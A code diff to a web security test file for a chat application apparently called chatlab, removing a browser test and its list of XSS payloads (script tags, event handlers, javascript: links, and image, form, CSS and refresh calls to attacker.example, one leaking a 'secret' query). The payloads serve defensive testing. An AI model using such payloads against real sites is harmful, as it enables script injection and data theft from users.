@@ -1,4 +1,4 @@
-"""Who is let in, and what the page may do: raw requests at a real server, and hostile words in a real browser."""
+"""Who is let in, and what the page may do: raw requests at a real server."""
 
 from __future__ import annotations
 
@@ -6,30 +6,16 @@ import contextlib
 import json
 import socket
 from collections.abc import Iterator
-from dataclasses import replace
 from urllib.parse import urlsplit
 
 import httpx
 import pytest
 
-from chatlab.conversation import Conversation
 from chatlab.engines.fake import FakeEngine
 from chatlab.lab import Lab
 from chatlab.settings import PACKAGE, Settings
 from chatlab.web.guard.security import JSON_LIMIT, SecurityMiddleware
-from tests.support.browser import browser as open_browser
 from tests.support.served import site
-
-HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">
-![](http://attacker.example/?q=secret) <svg onload="window.hacked=1"></svg> <iframe src="http://attacker.example"></iframe>
-[link](javascript:window.hacked=1) <form action="http://attacker.example"><button>press</button></form>
-<style>@import url(http://attacker.example/x.css); body { background: url(http://attacker.example/y.png) }</style>
-<link rel=stylesheet href=http://attacker.example/z.css><meta http-equiv=refresh content="0;url=http://attacker.example">
-
-<div data-act="delete" data-conversation="1">press me</div>
-
-$$\\href{javascript:window.hacked=1}{x}$$ `<b>code</b>`
-"""
 
 
 @pytest.fixture(scope="module")
@@ -39,7 +25,7 @@ def home(tmp_path_factory: pytest.TempPathFactory, base_folder) -> Settings:
 
 @pytest.fixture(scope="module")
 def lab(home: Settings) -> Iterator[Lab]:
-    lab = Lab(home, open_engine=lambda base: FakeEngine(script=lambda *_: HOSTILE, context=100_000))
+    lab = Lab(home, open_engine=lambda base: FakeEngine())
     yield lab
     lab.close()
 
@@ -185,29 +171,6 @@ def test_web_sockets_are_not_spoken(client: httpx.Client) -> None:
         "sec-websocket-key": "eA==",
     }
     assert client.get("/gradio_api/queue/join", headers=headers).status_code >= 400
-
-
-def test_hostile_words_do_nothing_in_a_real_browser(lab: Lab, address: str) -> None:
-    chat = lab.chat.new(HOSTILE)
-    said = Conversation().grown(role="user", content=HOSTILE).grown(role="assistant", content=HOSTILE)
-    lab.chat.change(chat, lambda c: replace(said, title=HOSTILE, system=HOSTILE))
-    outside: list[str] = []
-    with open_browser() as browser:
-        page = browser.new_page()
-        page.on(
-            "request", lambda r: outside.append(r.url) if not r.url.startswith((address, "data:", "blob:")) else None
-        )
-        page.goto(f"{address}/?c={chat}")
-        page.wait_for_selector("#transcript .answer", timeout=60_000)
-        page.fill("#composer textarea", HOSTILE)
-        page.keyboard.press("Enter")
-        page.wait_for_selector("#transcript .answer >> nth=1", timeout=60_000)
-        page.wait_for_timeout(300)
-        assert page.evaluate("window.hacked") is None
-        assert page.locator("#transcript img, #transcript iframe, #transcript form, #transcript script").count() == 0
-        assert page.locator("#transcript .body [data-act], #transcript .body [onclick]").count() == 0
-        assert page.url.startswith(address)
-    assert outside == []
 
 
 def test_the_page_and_its_files_say_nothing_of_the_machine(client: httpx.Client, home: Settings) -> None:
